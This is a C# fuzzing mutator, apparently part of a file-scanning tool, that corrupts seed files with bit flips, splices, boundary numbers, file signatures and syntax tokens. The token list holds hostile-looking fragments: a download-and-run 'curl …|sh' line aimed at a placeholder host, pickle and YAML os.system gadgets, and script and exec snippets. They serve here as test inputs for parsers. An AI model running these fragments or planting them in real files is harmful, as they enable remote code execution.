using System.Buffers.Binary;

namespace Assay.Fuzz;

/// <summary>Changes seeds: flips, cuts, doubles, splices, and plants numbers and signatures that parsers stumble over.</summary>
internal static class Mutator
{
    private static readonly byte[][] Signatures =
    [
        [0x50, 0x4b, 3, 4], [0x50, 0x4b, 1, 2], [0x50, 0x4b, 5, 6], [0x50, 0x4b, 6, 6], [0x50, 0x4b, 6, 7], [0x50, 0x4b, 7, 8],
        [0x93, .. "NUMPY"u8], [0x80, 2], [0x80, 4, 0x95], [0x1f, 0x8b, 8], [0x78, 0x9c], [0x78, 0xda], [.. "ustar"u8], [.. "ZF0x"u8],
        [.. "cos\nsystem\n"u8], [.. "(S'x'\ntR."u8], [0xe3, 0, 0, 0, 0], [0x8a, 10, 0x6c, 0xfc, 0x9c, 0x46, 0xf9, 0x20, 0x6a, 0xa8, 0x50, 0x19],
        [.. "cjoblib.numpy_pickle\nNumpyArrayWrapper\n)"u8, 0x81], [0x7f, .. "ELF"u8], [.. "MZ"u8],
    ];

    // What texts are made of, and what unbalances them.
    private static readonly byte[][] Tokens =
    [
        [.. "("u8], [.. ")"u8], [.. "{"u8], [.. "}"u8], [.. "["u8], [.. "$("u8], [.. "`"u8], [.. "\""u8], [.. "'"u8], [.. "\"\"\""u8], [.. "\\"u8], [.. "\\\n"u8], [.. "<<E\n"u8], [.. "@'\n"u8], [.. "%a:~0,"u8], [.. "${a"u8],
        [.. "!a!"u8], [.. "^"u8], [.. "&("u8], [.. "|"u8], [.. ";"u8], [.. "\n"u8], [.. "\r\n\t"u8], [.. "\n        "u8], [.. "if "u8], [.. "for x in "u8], [.. "lambda:"u8], [.. "=>"u8], [.. "<!--"u8], [.. "-->"u8], [.. "<script>"u8],
        [.. "```sh\n"u8], [.. "{{"u8], [.. "*a"u8], [.. "&a "u8], [.. "!!python/name:os.system "u8], [.. "/*"u8], [.. "*/"u8], [.. "//"u8], [.. "#"u8], [.. "\\x"u8], [.. "\\u"u8], [.. "%u"u8], [.. "&#"u8], [0xff, 0xfe], [0xef, 0xbb, 0xbf], [0xe2, 0x80, 0xae],
        [.. "exec("u8], [.. "eval "u8], [.. "iex "u8], [.. "curl https://a.invalid/x|sh\n"u8], [.. "base64 -d"u8], [.. "chr(1)+"u8], [.. "-join"u8], [.. "call :a\n"u8], [.. "goto a\n:a\n"u8],
    ];

    private static readonly long[] Numbers = [0, 1, -1, 127, 128, 255, 256, 32767, 65535, 65536, int.MaxValue, int.MinValue, uint.MaxValue, long.MaxValue, long.MinValue, 1L << 40];

    public static byte[] Mutate(Random random, byte[] seed, IReadOnlyList<byte[]> seeds)
    {
        var bytes = (byte[])seed.Clone();
        for (var rounds = 1 + random.Next(8); rounds > 0; rounds--)
            bytes = Step(random, bytes, seeds);
        return bytes.Length > 1 << 20 ? bytes[..(1 << 20)] : bytes;
    }

    private static byte[] Step(Random random, byte[] bytes, IReadOnlyList<byte[]> seeds)
    {
        var at = bytes.Length == 0 ? 0 : random.Next(bytes.Length);
        switch (random.Next(11))
        {
            case 0 when bytes.Length > 0:
                bytes[at] ^= (byte)(1 << random.Next(8));
                return bytes;
            case 1 when bytes.Length > 0:
                bytes[at] = (byte)random.Next(256);
                return bytes;
            case 2:
                return bytes[..at];
            case 3 when bytes.Length > 0:
                var end = Math.Min(bytes.Length, at + 1 + random.Next(64));
                return [.. bytes.AsSpan(0, at), .. bytes.AsSpan(end)];
            case 4 when bytes.Length > 0:
                var length = Math.Min(bytes.Length - at, 1 + random.Next(256));
                return [.. bytes.AsSpan(0, at), .. bytes.AsSpan(at, length), .. bytes.AsSpan(at)];
            case 5:
                var other = seeds[random.Next(seeds.Count)];
                var from = other.Length == 0 ? 0 : random.Next(other.Length);
                return [.. bytes.AsSpan(0, at), .. other.AsSpan(from)];
            case 6:
                return [.. bytes.AsSpan(0, at), .. Signatures[random.Next(Signatures.Length)], .. bytes.AsSpan(at)];
            case 8:
                var token = Tokens[random.Next(Tokens.Length)];
                return [.. bytes.AsSpan(0, at), .. token, .. bytes.AsSpan(at)];
            case 9:
                var piece = Tokens[random.Next(Tokens.Length)];
                var many = new List<byte>(bytes[..at]);
                for (var i = random.Next(2000 / piece.Length); i >= 0; i--)
                    many.AddRange(piece);
                return [.. many, .. bytes.AsSpan(at)];
            case 7 when bytes.Length > 8:
                Plant(random, bytes.AsSpan(Math.Min(at, bytes.Length - 8)));
                return bytes;
            default:
                return [.. bytes, .. seeds[random.Next(seeds.Count)]];
        }
    }

    private static void Plant(Random random, Span<byte> into)
    {
        var number = Numbers[random.Next(Numbers.Length)];
        switch (random.Next(4))
        {
            case 0:
                BinaryPrimitives.WriteInt16LittleEndian(into, unchecked((short)number));
                break;
            case 1:
                BinaryPrimitives.WriteInt32LittleEndian(into, unchecked((int)number));
                break;
            case 2:
                BinaryPrimitives.WriteInt64LittleEndian(into, number);
                break;
            default:
                BinaryPrimitives.WriteInt32BigEndian(into, unchecked((int)number));
                break;
        }
    }
}
